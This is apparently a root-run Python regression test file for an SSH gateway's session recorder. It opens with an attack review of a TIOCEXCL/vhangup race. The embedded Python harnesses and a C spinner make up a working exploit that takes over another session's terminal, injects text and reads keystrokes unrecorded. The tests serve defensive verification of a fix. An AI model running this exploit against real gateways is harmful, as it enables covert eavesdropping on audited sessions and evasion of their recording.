"""Attack review of issue 23's capability change (branch attack23b): the
recorder carried the file capabilities cap_sys_admin and cap_sys_tty_config
(permitted only) to hang up every earlier descriptor of the client's
terminal (vhangup) and open it again past TIOCEXCL
(gateway/recording/tty_revoke.c).  After the hole below, it carries
cap_chown and cap_sys_tty_config instead: it makes the terminal's node its
own (mode 0600) before the hang-up, so that no process of the user's opens
it again, and opens it as its owner.  Set up as the package does
(test_gateway_recording's setUpModule: the set-id copies, setcap, a real
sshd on loopback).

What held (tests below that pass):
- the running recorder and its shell hold no capability once the shell
  runs (CapPrm, CapEff, CapInh, CapAmb all zero);
- the set-group-ID gateway run by hand with PR_SET_NO_NEW_PRIVS gives no
  shell (no set-id, no capabilities, no audit log: refused).
Also checked by hand, not kept as tests: sched_setscheduler(2) and
setpriority(2) of the recorder during its capability window fail EPERM
(the kernel's cap_safe_nice: its permitted capabilities are not the
caller's), and so does ptrace (not dumpable).

What broke (fixed since; the two tests below failed before): the
revocation was not sound.  Any
process that holds a descriptor of the terminal opened before TIOCEXCL can
clear the flag again (TIOCNXCL needs no privilege), and the recorder's
only check after its vhangup(2) is that the flag is set on its fresh
descriptor.  So such a process spins on ioctl(old, TIOCNXCL); the moment
its old descriptor is hung up (EIO) it stops the recorder (SIGSTOP: the
recorder's real uid is still the user's during the whole window), opens
the terminal afresh (not exclusive: it cleared the flag), sets TIOCEXCL
itself, and lets the recorder go on: the recorder's reopen passes the flag
with CAP_SYS_ADMIN, finds it set, and starts the recorded shell, while the
leftover holds a live descriptor opened after the hang-up.  Measured on a
2-core VM with a C leftover: about half of the attempts win (with the
gateway pinned to another CPU before its exec, 12 of 20); a lost attempt
fails closed ("not exclusive").  Through sshd the leftover first has to
win the earlier race (test_gateway_pty_race shows it does), then writes
to the client and reads what the client types, unrecorded, for the whole
recorded session: AttackCapsSsh shows it (won in each of 5 runs here; the
leftover's text reached the client and is in no recording, and it read
every other line the client typed).

Suggested fix (not made here: product code): do not rely on TIOCEXCL for
the window between vhangup and the reopen, since any holder clears it.
Gate it with ownership instead: with cap_chown (and the recorder as the
new owner), fchown the terminal to the recorder's account and fchmod it
0600 before the vhangup; from then no process of the user's can open it
(DAC), chmod it or give it back, whatever flags it toggles, and sshd
gives it back to root at the session's end.  Until then, at least make
the recorder unsignalable by the user before TIOCEXCL (its real uid is
the user's during the whole capability window: SIGSTOP works), which
narrows the race but does not close it (a C spinner without SIGSTOP still
won 5 of 10 in a simulation).
"""

import os
import re
import subprocess
import sys
import time
import unittest

import pexpect

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import test_gateway_recording as base                     # noqa: E402
from amfa_testlib import totp                             # noqa: E402
from gwlib import TAG, read                               # noqa: E402

base.ROLES = base.ROLES + ("capzero", "xclrace", "nnprun", "xclssh")
setUpModule = base.setUpModule
tearDownModule = base.tearDownModule


def caps_of(pid):
    """{CapPrm: int, ...} of a live process."""
    out = {}
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
                out[k] = int(v.strip(), 16)
    return out


# Run by the user from their recorded shell, argv = the gateway, attempts,
# log.  Each attempt: a terminal of the user's own (openpty) stands for the
# client's; the leftover opens it before anything (as one that won the
# race with sshd does), then the set-group-ID gateway runs by hand as the
# leader of a new session with it as controlling terminal (the gateway
# execs the set-id recorder with its own control socket).  Two spinners
# (one per CPU) clear TIOCEXCL through the old descriptor until it is hung
# up; the first to see EIO stops the recorder, opens the terminal afresh,
# sets TIOCEXCL and lets it go on.  WON: the recorded shell ran and the
# fresh descriptor writes to the "client" (the master).
XCLRACE = r"""
import ctypes, os, select, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
GW, N, LOG, SPIN = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
TIOCEXCL, TIOCNXCL = 0x540C, 0x540D
libc.prctl(4, 0, 0, 0, 0)           # not dumpable: the audit side's look
log = open(LOG, "a", buffering=1)
env = dict(os.environ)
env.pop("SSH_ORIGINAL_COMMAND", None)
env["PS1"] = "$ "
CPUS = sorted(os.sched_getaffinity(0))

def drain(m, want, secs):
    got, end = b"", time.time() + secs
    while time.time() < end and want not in got:
        if select.select([m], [], [], 0.1)[0]:
            try:
                d = os.read(m, 4096)
            except OSError as e:
                log.write("READ %r\n" % e)
                break
            if not d:
                break
            got += d
    return got

for it in range(N):
    m, s = os.openpty()
    path = os.ttyname(s)
    old = os.open(path, os.O_RDWR | os.O_NOCTTY)
    r, w = os.pipe()
    pr, pw = os.pipe()
    gr, gwp = os.pipe()
    spinners = []
    for k in range(len(CPUS) - 1):
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.set_inheritable(old, True)
            os.set_inheritable(w, True)
            os.set_inheritable(pr, True)
            os.execv(SPIN, [SPIN, str(old), path, str(pr), str(w),
                            str(CPUS[k])])
        spinners.append(pid)
    gw = os.fork()
    if gw == 0:
        # Its own process, before the exec: on the last CPU (inherited
        # by the recorder, which the spinners leave alone).
        os.sched_setaffinity(0, {CPUS[-1]})
        os.read(gr, 1)          # once the spinners spin
        os.setsid()
        fd = os.open(path, os.O_RDWR)
        for i in range(3):
            os.dup2(fd, i)
        os.closerange(3, 1024)
        try:
            os.execve(GW, ["awsmfa-gateway"], env)
        finally:
            os._exit(127)
    os.close(s)
    os.close(pr)
    for pid in spinners:
        os.write(pw, b"%d\n" % gw)
    os.close(pw)
    os.close(w)
    for pid in spinners:
        os.read(r, 1)
    os.write(gwp, b"g")
    for fd in (gr, gwp):
        os.close(fd)
    os.write(m, b"echo IN-$((6*7))\r")
    out = drain(m, b"IN-42", 15)
    shell = b"IN-42" in out
    if shell:
        out += drain(m, b"LEAK-42", 4)
    fresh = select.select([r], [], [], 0)[0] and os.read(r, 10)
    leak = b"LEAK-42" in out
    log.write("ATTEMPT %d shell=%s fresh=%r leak=%s out=%r\n"
              % (it, shell, fresh, leak, out[-1500:]))
    for pid in spinners:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        os.waitpid(pid, 0)
    try:
        os.write(m, b"exit 0\r")
    except OSError:
        pass
    drain(m, b"\0", 3)
    os.close(m)             # the client goes away: the session ends
    st = os.waitpid(gw, 0)[1]
    log.write("GATEWAY status %d\n" % st)
    for fd in (old, r):
        os.close(fd)
    if shell and leak:
        log.write("WON %d\n" % it)
        break
log.write("DONE\n")
""".strip()


# The leftover's spinner (any program the user runs; C for speed), argv =
# its old descriptor of the terminal, the terminal's path, a pipe that
# gives the gateway's (then the recorder's) pid, a pipe to report on, a CPU.  Clears TIOCEXCL
# until the old descriptor is hung up; then stops the recorder, opens the
# terminal afresh, sets TIOCEXCL, lets the recorder go on; later writes
# through the fresh descriptor.
SPIN_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	int old = atoi(argv[1]), rep = atoi(argv[4]), fresh;
	char buf[32] = "";
	pid_t rec;
	cpu_set_t set;
	const char *msg = "\r\nLEAK-42 unrecorded\r\n";

	(void)argc;
	CPU_ZERO(&set);
	CPU_SET(atoi(argv[5]), &set);
	(void)sched_setaffinity(0, sizeof(set), &set);
	(void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	if (read(atoi(argv[3]), buf, sizeof(buf) - 1) <= 0)
		return 1;
	rec = (pid_t)atoi(buf);
	if (write(rep, "R", 1) != 1)
		return 1;
	while (ioctl(old, TIOCNXCL) == 0)
		;
	kill(rec, SIGSTOP);
	fresh = open(argv[2], O_RDWR | O_NOCTTY);
	if (fresh >= 0)
		ioctl(fresh, TIOCEXCL);
	kill(rec, SIGCONT);
	if (fresh < 0)
		return 0;
	if (write(rep, "F", 1) != 1)
		return 1;
	sleep(2);
	if (write(fresh, msg, strlen(msg)) < 0)
		return 1;
	/* What the client types, competing with the recorder. */
	for (int i = 0; i < 40; i++) {
		struct pollfd pf = { fresh, POLLIN, 0 };
		char in[256];
		ssize_t n;

		if (poll(&pf, 1, 100) != 1)
			continue;
		if ((n = read(fresh, in, sizeof(in))) <= 0)
			break;
		if (write(rep, "READ ", 5) != 5 || write(rep, in, (size_t)n) != n)
			return 1;
	}
	return 0;
}
"""

# Through sshd: left behind by the user's first recorded session (setsid,
# not dumpable), argv = log, spinner.  Opens the next session's /dev/pts/N
# before TIOCEXCL (as in test_gateway_pty_race), finds that session's
# process (sshd's session process, then the gateway: the user's until the
# recorder's exec), pins it to the last CPU (inherited by the recorder),
# and runs the spinner on another with its descriptor; then logs what
# the fresh descriptor does.
XCLSSH = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(4, 0, 0, 0, 0)
LOG, SPIN = sys.argv[1], sys.argv[2]
log = open(LOG, "a", buffering=1)
uid = os.getuid()
CPUS = sorted(os.sched_getaffinity(0))
seen = set(os.listdir("/dev/pts"))
log.write("READY %d\n" % os.getpid())
fd, end = None, time.time() + 120
while fd is None and time.time() < end:
    for n in os.listdir("/dev/pts"):
        if n in seen or not n.isdigit():
            continue
        p = "/dev/pts/" + n
        try:
            st = os.stat(p)
            if st.st_uid != uid:
                continue
            fd = os.open(p, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            log.write("OPENED %s\n" % p)
            break
        except OSError:
            seen.add(n)
    time.sleep(0.001)
if fd is None:
    log.write("NONE\n")
    sys.exit(0)
mi = os.minor(st.st_rdev)
nr = (mi & 0xff) | (os.major(st.st_rdev) << 8) | ((mi & ~0xff) << 12)
leader, end = None, time.time() + 10
while leader is None and time.time() < end:
    for q in os.listdir("/proc"):
        if not q.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % q) as f:
                x = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(x[4]) == nr and int(x[3]) == int(q):
            leader = int(q)
            try:
                os.kill(leader, 19)     # SIGSTOP, meanwhile
            except OSError as e:
                log.write("NOSTOP %s\n" % e)
            break
log.write("LEADER %s\n" % leader)
if leader is None:
    sys.exit(0)
try:
    os.sched_setaffinity(leader, {CPUS[-1]})
    log.write("PINNED\n")
except OSError as e:
    log.write("NOPIN %s\n" % e)
r, w = os.pipe()
pr, pw = os.pipe()
os.write(pw, b"%d\n" % leader)
os.set_inheritable(fd, True)
os.set_inheritable(w, True)
os.set_inheritable(pr, True)
import fcntl
fcntl.fcntl(fd, fcntl.F_SETFL, 0)
kid = os.fork()
if kid == 0:
    os.execv(SPIN, [SPIN, str(fd), p, str(pr), str(w), str(CPUS[0])])
log.write("SPINNER PID %d\n" % kid)
os.close(w)
got = os.read(r, 1)
try:
    os.kill(leader, 18)                 # SIGCONT
except OSError:
    pass
while True:
    d = os.read(r, 10)
    if not d:
        break
    got += d
log.write("SPINNER %r\n" % got)
log.write("DONE\n")
""".strip()


# Each lost attempt fails closed; about half win on a 2-core machine.
# Before the fix the attack won on the first attempt in every run.
ATTEMPTS = 5


class AttackCaps(unittest.TestCase):
    setUp = base.Recording.setUp
    logs_on_failure = base.Recording.logs_on_failure
    login = base.Recording.login
    shell = base.Recording.shell

    def script(self, name, text):
        path = "/tmp/amfa-%s-%s.py" % (name, TAG)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o644)
        self.addCleanup(os.unlink, path)
        return path

    def session(self, role):
        base.gateway_conf()
        p, child = self.login(role)
        out = self.shell(child, "echo SH=$$ PP=$PPID")
        m = re.search(r"SH=(\d+) PP=(\d+)", out)
        self.assertTrue(m, out)
        shell, rec = int(m.group(1)), int(m.group(2))
        self.addCleanup(base.kill_session, shell)
        return p, child, shell, rec

    def test_running_recorder_holds_no_capabilities(self):
        """The file capabilities are there (else this proves nothing), and
        once the shell runs neither the recorder nor the shell has any."""
        caps = subprocess.run(["getcap", base.RECBIN], capture_output=True,
                              text=True).stdout
        self.assertIn("cap_chown", caps)
        self.assertIn("cap_sys_tty_config", caps)
        p, child, shell, rec = self.session("capzero")
        with open("/proc/%d/comm" % rec) as f:
            self.assertEqual(f.read().strip(), "awsmfa-recorder")
        self.assertEqual(os.stat("/proc/%d" % rec).st_uid,
                         base.REC_PW.pw_uid)
        for pid in (rec, shell):
            self.assertEqual(caps_of(pid), {"CapInh": 0, "CapPrm": 0,
                                            "CapEff": 0, "CapAmb": 0},
                             "process %d" % pid)
        child.sendline("exit 0")
        base.finish(child)

    def test_gateway_by_hand_without_new_privileges_gives_no_shell(self):
        """PR_SET_NO_NEW_PRIVS: neither the gateway's group nor the
        recorder's ids and capabilities apply; no shell may start."""
        p, child, shell, rec = self.session("nnprun")
        out = self.shell(child, "echo 'echo NNP-$((6*7))' | "
                         "setpriv --no-new-privs %s; echo RC=$?"
                         % base.GW, timeout=60)
        self.assertNotIn("NNP-42", out)
        self.assertRegex(out, r"RC=[1-9]")
        child.sendline("exit 0")
        base.finish(child)

    def test_leftover_clears_exclusive_and_reopens_after_the_hangup(self):
        """A process that holds the terminal from before TIOCEXCL clears
        the flag, reopens right after the recorder's vhangup and sets the
        flag again: the recorder accepts, the recorded shell runs, and the
        process holds a live descriptor of the terminal.  Must not win
        (the recorder must refuse, or the descriptor must be dead)."""
        p, child, shell, rec = self.session("xclrace")
        log = "/tmp/amfa-xclrace-%s.log" % TAG
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        script = self.script("xclrace", XCLRACE)
        spin = "/tmp/amfa-xclspin-%s" % TAG
        subprocess.run(["cc", "-O2", "-o", spin, "-x", "c", "-"],
                       input=SPIN_C, text=True, check=True)
        self.addCleanup(os.unlink, spin)
        os.chmod(spin, 0o755)
        self.shell(child, "/usr/bin/python3 %s %s %s %s %s" % (
            script, base.GW, ATTEMPTS, log, spin), timeout=600)
        text = read(log)
        print("attacker's log:\n%s\naudit:\n%s" % (text, "\n".join(
            "%s %s %s" % (r.get("event"), r.get("result"), r.get("reason"))
            for r in base.audit_records(p.name))), file=sys.stderr)
        recs = [r["recording"] for r in base.audit_records(p.name, "shell")
                if r.get("recording")]
        print("LEAK-42 in a recording: %s" % any(
            "LEAK-42" in read(r) for r in recs), file=sys.stderr)
        child.sendline("exit 0")
        base.finish(child)
        self.assertIn("DONE", text)
        # Some attempt reached the recorded shell at all (else the test
        # shows nothing).
        self.assertIn("shell=True", text)
        self.assertNotIn("WON", text, "a descriptor opened after the "
                         "recorder's hang-up writes to the client of a "
                         "recorded shell")


class AttackCapsSsh(unittest.TestCase):
    setUp = base.Recording.setUp
    logs_on_failure = base.Recording.logs_on_failure
    login = base.Recording.login
    shell = base.Recording.shell
    script = AttackCaps.script
    session = AttackCaps.session

    def test_leftover_keeps_the_next_sessions_terminal_through_sshd(self):
        """The same through sshd, one attempt: a process left behind by
        the user's first recorded session takes the second session's
        terminal before TIOCEXCL, then keeps a descriptor of it past the
        hang-up; its text reaches the client inside the recorded session
        and is in no recording.  Must not reach the client."""
        p, first, shell, rec = self.session("xclssh")
        log = "/tmp/amfa-xclssh-%s.log" % TAG
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        spin = "/tmp/amfa-xclspin2-%s" % TAG
        subprocess.run(["cc", "-O2", "-o", spin, "-x", "c", "-"],
                       input=SPIN_C, text=True, check=True)
        self.addCleanup(os.unlink, spin)
        os.chmod(spin, 0o755)
        script = self.script("xclssh", XCLSSH)
        self.shell(first, "setsid -f /usr/bin/python3 %s %s %s "
                   "</dev/null >/dev/null 2>&1" % (script, log, spin))
        deadline = time.time() + 30
        while time.time() < deadline and "READY" not in (
                os.path.exists(log) and read(log) or ""):
            time.sleep(0.1)
        self.assertIn("READY", read(log))
        self.addCleanup(self.kill_logged, log)
        p2 = base.PEOPLE["xclssh"]
        c = base.Client(p2.key, [base.BASTION])
        second = c.spawn(c.ssh_args(base.BASTION, p2.name, tty=True),
                         timeout=60)
        second.setwinsize(24, 80)
        base.answer(second, [totp(p2.seed, time.time() + 30)])
        i = second.expect([r"\$ ", pexpect.EOF, pexpect.TIMEOUT], timeout=60)
        leaked = i == 0 and second.expect(["LEAK-42", pexpect.TIMEOUT],
                                          timeout=8) == 0
        if leaked:
            for n in range(10):
                second.send("typed-secret-%d\r" % n)
                time.sleep(0.1)
        if i == 0:
            second.sendline("exit 0")
            second.expect(pexpect.EOF, timeout=60)
        first.sendline("exit 0")
        first.expect(pexpect.EOF, timeout=60)
        deadline = time.time() + 15
        while time.time() < deadline and "DONE" not in read(log):
            time.sleep(0.1)
        text = read(log)
        recs = [r["recording"] for r in base.audit_records(p.name, "shell")
                if r.get("recording")]
        print("leftover log:\n%s\nprompt: %s, LEAK-42 reached the client: "
              "%s, in a recording: %s" % (text, i == 0, leaked, any(
                  "LEAK-42" in read(r) for r in recs)), file=sys.stderr)
        self.assertFalse(leaked, "a process left behind wrote to the "
                         "client of a recorded session: %s" % text)

    @staticmethod
    def kill_logged(log):
        """The leftover and its spinner, by the pids they logged."""
        text = read(log)
        for pid in re.findall(r"(?m)^(?:READY|SPINNER PID) (\d+)", text):
            try:
                os.kill(int(pid), 9)
            except ProcessLookupError:
                pass


if __name__ == "__main__":
    if os.geteuid() != 0:
        print("SKIP: needs root (sshd, accounts, set-id copies, a mount "
              "namespace)")
        sys.exit(77)
    for what, path in (("module", base.MODULE), ("gateway", base.GATEWAY),
                       ("recorder", base.RECORDER)):
        if not path or not os.path.exists(path):
            print("missing %s (%r): run through meson test" % (what, path))
            sys.exit(1)
    unittest.main(verbosity=2)
